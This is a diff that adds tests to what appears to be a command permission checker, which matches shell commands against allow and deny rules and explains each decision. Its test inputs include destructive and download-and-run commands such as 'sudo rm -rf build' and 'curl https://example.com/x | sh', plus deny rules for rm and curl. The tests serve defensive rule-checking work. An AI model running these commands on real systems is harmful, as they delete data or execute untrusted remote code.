@@ -100,6 +100,34 @@ test('--explain: forms, every rule with the first difference, the smallest chang
   assert.ok((await check(...rules, 'rm x')).out.split('\n').length < 20);
 });
 
+test('in short the tree says what led to each answer, once', async () => {
+  const rules = ['--allow', 'Bash(npm run *)', '--deny', 'Bash(rm *)'];
+  const { out } = await check(...rules, 'npm run a && sudo rm -rf build');
+  assert.match(out, /\n {2}deny +sudo rm -rf build {2}as root, deletes build and everything in it\n/);
+  assert.match(out, /\n +restrict +sudo rm -rf build\n +rm -rf build\n/);
+  assert.match(out, /\n +effects +removes .+\/build and everything in it\n/);
+  assert.match(out, /\n {2}allow npm run a {2}.*\n +`npm run a` is allowed by `Bash\(npm run \*\)` \(command line\)\n/);
+  // A form that is the text itself, and a reason that stands above the tree, are not repeated.
+  assert.doesNotMatch(out, /grants +npm run a/);
+  assert.equal(out.split('is denied by').length, 2, out);
+  assert.doesNotMatch(out, /does not match/);
+});
+
+test('a finding is named where no reason names it', async () => {
+  const { out } = await check('--deny', 'Bash(curl *)', 'curl https://example.com/x | sh');
+  assert.match(out, /\n {2}ask +sh {2}.*\n +`sh`: downloads something and runs it \[downloaded-code\]\n/);
+  assert.equal(out.split('[downloaded-code]').length, 2, out);
+  assert.doesNotMatch(out, /finding/);
+});
+
+test('--explain draws one tree, with every rule below its command and the deciding one marked', async () => {
+  const { out } = await check('--explain', '--deny', 'Bash(rm *)', '--allow', 'Bash(ls *)', 'ls | xargs rm');
+  assert.equal(out.split('\n').filter((line) => /^ {2}\w+ +xargs rm/.test(line)).length, 1, out);
+  assert.match(out, /xargs rm {2}in pipeline/);
+  assert.match(out, /\n +> deny +Bash\(rm \*\) +matches +command line\n/);
+  assert.match(out, /\n +allow Bash\(ls \*\) +does not match: .*\n/);
+});
+
 test('--json holds the explanation as data', async () => {
   const { out } = await check('--json', '--deny', 'Bash(rm *)', 'ls | sudo rm x');
   const { explanation } = JSON.parse(out) as { explanation: Explanation };
